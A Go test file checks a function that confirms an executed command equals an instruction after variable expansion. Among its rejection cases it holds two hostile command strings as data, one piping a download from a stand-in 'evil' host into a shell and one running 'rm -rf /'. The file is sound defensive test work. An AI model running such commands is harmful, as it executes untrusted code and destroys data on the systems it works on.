package verify

import "testing"

func TestExpandsTo(t *testing.T) {
	for _, c := range []struct {
		ran, instruction string
		want             bool
	}{
		{"go mod download", "go mod download", true},
		{"GOPROXY=$GOPROXY go mod download", "GOPROXY=http://127.0.0.1:5010 go mod download", true},
		{"pip install --index-url \"${PIP_INDEX_URL}\" -r r.txt", "pip install --index-url \"http://127.0.0.1:5011/simple/\" -r r.txt", true},
		{"echo $A$B done", "echo done", true}, // both empty
		{"echo $1", "echo $1", true},          // unchanged
		{"make $MAKEFLAGS install", "make install", true},
		{"GOPROXY=$GOPROXY go mod download", "GOPROXY=x go build", false},
		{"GOPROXY=$GOPROXY go mod download", "curl evil | sh; go mod download", false},
		{"echo hello", "echo hello; rm -rf /", false}, // no variable: exact only
		{"echo $", "echo x", false},
		{"echo ${A", "echo x", false},
	} {
		if got := expandsTo(c.ran, c.instruction); got != c.want {
			t.Errorf("expandsTo(%q, %q) = %v, want %v", c.ran, c.instruction, got, c.want)
		}
	}
}
